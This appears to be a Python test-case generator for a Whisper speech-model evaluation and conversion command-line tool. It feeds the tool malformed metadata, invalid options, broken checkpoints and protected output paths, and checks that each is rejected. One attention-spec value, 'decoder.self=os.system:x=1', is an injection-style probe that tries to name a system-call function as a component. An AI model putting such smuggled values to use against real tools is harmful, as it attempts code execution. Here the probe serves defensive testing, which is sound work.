    add("empty-transcript", folder(meta="file_name,transcription\na.wav,\n"), "a.wav", "transcript")
    add("blank-transcript", folder(meta="file_name,transcription\na.wav,   \n"), "a.wav", "transcript")
    add("no-transcription-column", folder(meta="file_name,text2\na.wav,hi\n"), "metadata.csv", "transcription")
    add("no-file_name-column", folder(meta="name,transcription\na.wav,hi\n"), "metadata.csv", "file_name")
    add("header-only", folder(meta="file_name,transcription\n"), "metadata.csv")
    add("metadata-empty", folder(meta=""), "metadata.csv")
    add("metadata-binary", folder(meta=os.urandom(300)), "metadata.csv")
    add("metadata-latin1", folder(meta="file_name,transcription\na.wav,caf\xe9\n".encode("latin-1")), "metadata.csv")
    add("metadata-utf16", folder(meta="file_name,transcription\na.wav,hi\n".encode("utf-16")), "metadata.csv")
    add("duplicate-ids", folder(meta="file_name,transcription,id\na.wav,hi,x\na.wav,ho,x\n"), "'x'")
    add("csv-missing-column", folder(meta="file,transcription\na.wav,hi\n", csv=True), "metadata.csv", "file_name")
    add("csv-empty-file_name", folder(meta="file_name,transcription\n,hi\n", csv=True), "metadata.csv", "file_name")
    add("csv-header-only", folder(meta="file_name,transcription\n", csv=True), "metadata.csv")
    add("csv-missing-audio", folder({"a.wav": None}, csv=True), "a.wav")
    add("no-metadata", lambda e, d: str((d / "x").mkdir() or d / "x"), "metadata.csv")
    add("nonexistent", lambda e, d: str(d / "nowhere"), "nowhere")
    for ref, names in [("builtin:nope", ("builtin:nope",)), ("builtin:real?source=nope", ("nope",)),
                       ("builtin:real?colour=red", ("colour",)), ("builtin:tts-test?size=-1", ("size",)),
                       ("builtin:tts-test?size=abc", ("abc",)), ("builtin:real?source", ("source",)),
                       ("", ("empty",)), ("hf:", ("hf:",)), ("builtin:real?a=1&a=2", ("'a'",)),
                       ("hf:x?streaming=maybe", ("streaming",))]:
        add(f"ref-{ref or 'empty'}", lambda e, d, r=ref: r, *names)
    add("limit-negative", folder(kw={"limit": -1}), "limit")
    add("limit-zero", folder(kw={"limit": 0}), "limit")
    return out


# --- command lines -------------------------------------------------------------------------------------------

def cli(*args: str, clips: str | None = "CLIPS") -> Callable[[Env, Path], list[str]]:
    def make(env: Env, d: Path) -> list[str]:
        clip_dir(d / "clips") if clips == "CLIPS" else None
        return [a.replace("BASE", str(env.base)).replace("CLIPS", str(d / "clips")).replace("WORK", str(d))
                for a in args]

    return make


def _evaluated(output: str, env: Env) -> None:
    assert "1 utterances" in output, output
    assert "WER" in output or "wer" in output, output


def _long_form(output: str, env: Env) -> None:
    """A clip past Whisper's 30 s window is decoded whole (long-form), never cut to the window."""
    metrics = json.loads(Path("o/metrics.json").read_text())
    assert metrics["long_form_utterances"] == 1, metrics
    assert abs(metrics["audio_seconds"] - 35.0) < 0.01, metrics["audio_seconds"]


EVAL = ("evaluate", "--model", "BASE", "--data", "CLIPS", "--max-new-tokens", "4", "-q")


def cli_cases() -> list[Case]:
    out: list[Case] = []

    def add(cid: str, make, *names: str, expect=None) -> None:
        out.append(Case(f"cli/{cid}", "cli", make, names, expect))

    add("evaluate-valid", cli(*EVAL), expect=_evaluated)
    for opt, value, names in [("--batch-size", "0", ("--batch-size", "0")), ("--batch-size", "-1", ("--batch-size",)),
                              ("--batch-size", "x", ("--batch-size",)), ("--beams", "0", ("--beams",)),
                              ("--max-new-tokens", "0", ("--max-new-tokens",)),
                              ("--max-new-tokens", "100000", ("--max-new-tokens", "100000")),
                              ("--limit", "0", ("--limit",)), ("--limit", "-3", ("--limit",)),
                              ("--device", "cuda", ("cuda",)), ("--device", "quantum", ("quantum",)),
                              ("--device", "cuda:99", ("cuda:99",)), ("--format", "nope", ("--format", "nope")),
                              ("--dtype", "float8", ("float8",)), ("--task", "summarise", ("summarise",)),
                              ("--language", "fr", ("language",)), ("--model", "/nonexistent/m", ("/nonexistent/m",)),
                              ("--data", "/nonexistent/d", ("/nonexistent/d",)), ("--data", "builtin:nope", ("nope",))]:
        add(f"evaluate{opt}={value}", cli(*EVAL, opt, value), *names)
    add("evaluate--out-dot", cli(*EVAL, "--out", "."), "--out")
    add("evaluate--out-file", lambda e, d: (d / "f.txt").write_text("mine") and cli(*EVAL, "--out", "WORK/f.txt")(e, d),
        "f.txt")
    add("evaluate--out-foreign-metrics", lambda e, d: ((d / "o").mkdir(), (d / "o" / "metrics.json").write_text("{}"))
        and cli(*EVAL, "--out", "WORK/o")(e, d), "metrics.json")
    add("evaluate--model-file",
        lambda e, d: (d / "m.bin").write_text("x") and cli(*EVAL, "--model", "WORK/m.bin")(e, d), "m.bin")
    add("evaluate-header-only", lambda e, d: (clip_dir(d / "empty", {}, "file_name,transcription\n"),
                                              cli(*EVAL, "--data", "WORK/empty")(e, d))[1], "metadata.csv")
    add("evaluate-skip-bad-all", lambda e, d: (clip_dir(d / "bad", {"a.wav": b"", "b.wav": os.urandom(99)}),
                                               cli(*EVAL, "--data", "WORK/bad", "--skip-bad")(e, d))[1], "bad")
    add("evaluate-unknown-option", cli(*EVAL, "--colour", "red"), "--colour")
    add("evaluate-35-seconds", lambda e, d: (clip_dir(d / "long", {"a.wav": _tone(35.0)}),
                                             cli(*EVAL, "--data", "WORK/long", "--out", "WORK/o")(e, d))[1],
        expect=_long_form)
    add("evaluate-model-broken-manifest", lambda e, d: (ckpt(raw(MANIFEST, "[1]"))(e, d),
                                                        cli(*EVAL, "--model", "WORK/ckpt")(e, d))[1], MANIFEST)
    add("evaluate-model-nan", lambda e, d: (ckpt(tensors(poison(float("nan"), "decoder.layers.0.self_attn")))(e, d),
                                            cli(*EVAL, "--model", "WORK/ckpt")(e, d))[1], WEIGHTS)
    conv = ("convert", "--model", "BASE", "--out", "WORK/out", "-q", "--attention")
    for spec, names in [("decoder.self", ("decoder.self",)), ("decoder.self=nope", ("nope",)),
                        ("decoder.self=mla:rank=0", ("rank",)), ("decoder.self=mla:rank=-3", ("rank",)),
                        ("decoder.self=mla:rank=99999", ("rank",)), ("decoder.self=mla:rank", ("rank",)),
                        ("decoder.self=mla:evil=1", ("evil",)), ("decoder.self.9=mla:rank=8", ("decoder.self.9",)),
                        ("=mla", ("=mla",)), ("decoder.self=gqa:kv_heads=3", ("kv_heads",)),
                        ("decoder.self=os.system:x=1", ("os.system",)), ("decoder.self=mla:init=magic", ("magic",))]:
        add(f"convert-{spec}", cli(*conv, spec), *names)
    add("convert-out-dot", lambda e, d: ((d / "thesis.txt").write_text("mine"),
                                         cli("convert", "--model", "BASE", "--out", ".", "-a", "decoder.self=mha")(e, d)
                                         )[1], "current working directory")
    add("convert-out-nonempty", lambda e, d: ((d / "out").mkdir(), (d / "out" / "notes.txt").write_text("mine"),
                                              cli(*conv, "decoder.self=mha")(e, d))[2], "out")
    add("convert-calibration-size-0", cli(*conv, "decoder.self=mha", "--calibration-size", "0"), "--calibration-size")
    add("convert-device-quantum", cli(*conv, "decoder.self=mha", "--device", "quantum"), "quantum")
    add("convert-no-attention", cli("convert", "--model", "BASE", "--out", "WORK/out"), "--attention")
    add("run-missing-file", cli("run", "WORK/nope.yaml", "--check"), "nope.yaml")
    add("run-format-unknown", cli("run", "WORK/nope.yaml", "--format", "nope"), "--format")
    add("run-check-dir", lambda e, d: ((d / "cfgdir").mkdir(), cli("run", "WORK/cfgdir", "--check")(e, d))[1], "cfgdir")
    add("run-check-bad-yaml", lambda e, d: ((d / "x.yaml").write_text("variants: [\n"),
                                            cli("run", "WORK/x.yaml", "--check")(e, d))[1], "x.yaml")
    add("report-missing", cli("report", "WORK/nope"), "nope")
    add("report-no-results", cli("report", "WORK"), "results.json")
    add("report-garbage", lambda e, d: ((d / "results.json").write_bytes(os.urandom(64)),
                                        cli("report", "WORK")(e, d))[1], "results.json")
    add("report-format", cli("report", "WORK", "--format", "nope"), "--format")
    add("report-resamples-0", cli("report", "WORK", "--resamples", "0"), "--resamples")
    ft = ("finetune", "--model", "BASE", "--train", "CLIPS", "--valid", "CLIPS", "--out", "WORK/ft", "-q")
    for opt, value in [("--steps", "0"), ("--lr", "-1"), ("--batch-size", "0"), ("--objective", "magic"),
                       ("--trainable", "everything"), ("--device", "quantum")]:
        add(f"finetune{opt}={value}", cli(*ft, opt, value), opt if opt != "--device" else value)
    add("plugins-unknown-option", cli("plugins", "--bogus"), "--bogus")
    add("unknown-command", cli("transmogrify"), "transmogrify")
    return out


def all_cases() -> list[Case]:
    cases = checkpoint_cases() + model_cases() + experiment_cases() + data_cases() + cli_cases()
    ids = [c.id for c in cases]
    assert len(ids) == len(set(ids)), sorted({i for i in ids if ids.count(i) > 1})
    return cases
